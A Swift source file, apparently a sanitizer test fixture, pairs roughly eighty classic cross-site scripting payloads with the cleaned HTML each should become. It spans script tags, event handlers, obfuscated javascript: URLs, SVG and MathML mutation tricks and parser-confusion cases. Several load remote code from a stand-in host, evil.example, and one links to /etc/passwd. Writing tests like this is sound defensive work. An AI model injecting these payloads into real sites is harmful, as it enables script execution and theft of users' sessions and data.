/// Markup whose script has run somewhere, and what is left of it.
struct XSSClassics: Sendable, CustomStringConvertible {
    var source: String
    var result: String
    var description: String { source }

    private init(_ source: String, _ result: String) {
        self.source = source
        self.result = result
    }

    static let all: [XSSClassics] = [
        // Scripts and what looks like them
        XSSClassics("<script>alert(1)</script>x", "x"),
        XSSClassics("<ScRiPt src=//evil.example/x.js></sCrIpT >x", "x"),
        XSSClassics("<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt&gt;alert(1)ipt&gt;"),
        XSSClassics("<<script>alert(1)//<</script>", "&lt;"),
        XSSClassics("<script><!--<script></script>--></script>x", "x"),
        XSSClassics("<style>@import '//evil.example';</style>x", "x"),
        XSSClassics("<template><script>alert(1)</script></template>x", "x"),
        // Event attributes
        XSSClassics("<img src=x onerror=alert(1)>", "<img src=\"x\">"),
        XSSClassics("<img/src=x/onerror=alert(1)>", "<img src=\"x/onerror=alert(1)\">"),
        XSSClassics("<img src='x'onerror=alert(1)>", "<img src=\"x\">"),
        XSSClassics("<img src=x onerror\n=\nalert(1)>", "<img src=\"x\">"),
        XSSClassics("<img \"\"\"><script>alert(1)</script>\">", "<img>\"&gt;"),
        XSSClassics("<image src=x onerror=alert(1)>", "<img src=\"x\">"),
        XSSClassics("<body onload=alert(1)>x", "x"),
        XSSClassics("<details open ontoggle=alert(1)>x</details>", "<details open=\"\">x</details>"),
        XSSClassics("<video><source onerror=alert(1)></video>", "<video><source></video>"),
        XSSClassics("<input autofocus onfocus=alert(1)>x", "x"),
        XSSClassics("<p/onclick=alert(1)>x", "<p>x</p>"),
        // Addresses
        XSSClassics("<a href=javascript:alert(1)>x</a>", "<a>x</a>"),
        XSSClassics("<a href=' &#x6A;avascript:alert(1)'>x</a>", "<a>x</a>"),
        XSSClassics("<a href='java\nscript:alert(1)'>x</a>", "<a>x</a>"),
        XSSClassics("<a href='java&Tab;script:alert(1)'>x</a>", "<a>x</a>"),
        XSSClassics("<a href='\u{1}javascript:alert(1)'>x</a>", "<a>x</a>"),
        XSSClassics("<a href='java\u{0}script:alert(1)'>x</a>", "<a>x</a>"),
        XSSClassics("<a href=\"javascript&colon;alert(1)\">x</a>", "<a>x</a>"),
        XSSClassics("<a href='&#0000106avascript:alert(1)'>x</a>", "<a>x</a>"),
        XSSClassics("<a href='JaVaScRiPt&#x3A;alert(1)'>x</a>", "<a>x</a>"),
        XSSClassics("<a href='vbscript:msgbox(1)'>x</a>", "<a>x</a>"),
        XSSClassics("<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a>x</a>"),
        XSSClassics("<a href='file:///etc/passwd'>x</a>", "<a>x</a>"),
        XSSClassics("<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<img>"),
        XSSClassics("<img src='data:image/png,<svg onload=alert(1)>'>", "<img>"),
        XSSClassics("<img srcset='javascript:alert(1) 1x, x 2x'>", "<img srcset=\"x 2x\">"),
        XSSClassics("<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>", "<img>"),
        XSSClassics("<blockquote cite=javascript:alert(1)>x</blockquote>", "<blockquote>x</blockquote>"),
        XSSClassics("<video poster=javascript:alert(1)></video>", "<video></video>"),
        XSSClassics("<table background=javascript:alert(1)><tr><td>x</table>", "<table><tr><td>x</td></tr></table>"),
        // Style, names and cover-ups
        XSSClassics("<p style='background:url(javascript:alert(1))' class=x id=y>x</p>", "<p>x</p>"),
        XSSClassics("<img name=cookie src=x><p id=__proto__>x", "<img src=\"x\"><p>x</p>"),
        // Frames, objects, forms, heads
        XSSClassics("<iframe src=javascript:alert(1)></iframe>x", "x"),
        XSSClassics("<iframe srcdoc='<script>alert(1)</script>'></iframe>x", "x"),
        XSSClassics("<object data=javascript:alert(1)>x</object>", "x"),
        XSSClassics("<embed src=javascript:alert(1)>x", "x"),
        XSSClassics("<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>", "x"),
        XSSClassics("<base href=//evil.example/><a href=y>x</a>", "<a href=\"y\" rel=\"noopener noreferrer\">x</a>"),
        XSSClassics("<meta http-equiv=refresh content='0;url=javascript:alert(1)'>x", "x"),
        XSSClassics("<link rel=stylesheet href=//evil.example/x.css>x", "x"),
        XSSClassics("<isindex action=javascript:alert(1)>x<portal src=//evil.example>", "x"),
        // Foreign content
        XSSClassics("<svg onload=alert(1)>x", ""),
        XSSClassics("<svg><script>alert(1)</script></svg>x", "x"),
        XSSClassics("<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>y", "y"),
        XSSClassics("<svg><animate attributeName=href values=javascript:alert(1) /></svg>x", "x"),
        XSSClassics("<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>", "<img src=\"x\">'&gt;"),
        XSSClassics("<svg><foreignObject><p>x<script>alert(1)</script></p></foreignObject></svg>y", "y"),
        XSSClassics("<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "x"),
        XSSClassics("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<table></table>"),
        // What parsers don't agree on
        XSSClassics("<!--><img src=x onerror=alert(1)>-->", "<img src=\"x\">--&gt;"),
        XSSClassics("<!-- --!><img src=x onerror=alert(1)> -->", "<img src=\"x\"> --&gt;"),
        XSSClassics("<![CDATA[<img src=x onerror=alert(1)>]]>", "]]&gt;"),
        XSSClassics("<!DOCTYPE x [<!ENTITY y '<script>'>]>&y;", "'&gt;]&gt;&amp;y;"),
        XSSClassics("<math><pre><![CDATA[", "<pre></pre>"),
        XSSClassics("<math><![CDATA[<img src=x onerror=alert(1)>]]></math>", "&lt;img src=x onerror=alert(1)&gt;"),
        XSSClassics("<?xml version='1.0'?><script>alert(1)</script>x", "x"),
        XSSClassics(
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>x",
            "<p title=\"&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;\">x</p>"),
        XSSClassics("<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>", "<pre>&lt;p title='</pre><img src=\"x\">'&gt;"),
        XSSClassics("<textarea></textarea><img src=x onerror=alert(1)></textarea>", "<img src=\"x\">"),
        XSSClassics("<title></title><img src=x onerror=alert(1)></title>x", "<img src=\"x\">x"),
        XSSClassics("<plaintext><b>x", "<pre>&lt;b&gt;x</pre>"),
        XSSClassics("<a href=\"x", ""),
        XSSClassics("<a href=\"javascript:alert(1)>x</a>", "<a>x</a>"),
        XSSClassics("<script src=\"//evil.example>alert(1)</script>x", "x"),
        XSSClassics("<p title=\"><img src=x onerror=alert(1)>", "<p title=\"\"><img src=\"x\"></p>"),
        XSSClassics("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>", "<p title=\"&lt;/noscript\"><img src=\"x\"></p>"),
        XSSClassics("<svg><style><a title=\"</style><img src=x onerror=alert(1)>", "<img src=\"x\">"),
        XSSClassics("<textarea title=\"><img src=x onerror=alert(1)></textarea>", "&lt;img src=x onerror=alert(1)&gt;"),
        XSSClassics("<a title=`><img src=x onerror=alert(1)>`>x</a>", "<a title=\"`\"><img src=\"x\">`&gt;x</a>"),
        XSSClassics("<p title='&quot;><img src=x onerror=alert(1)>'>x", "<p title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</p>"),
        XSSClassics("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        XSSClassics("<\u{0}script>alert(1)</script>", "&lt;script&gt;alert(1)"),
    ]
}
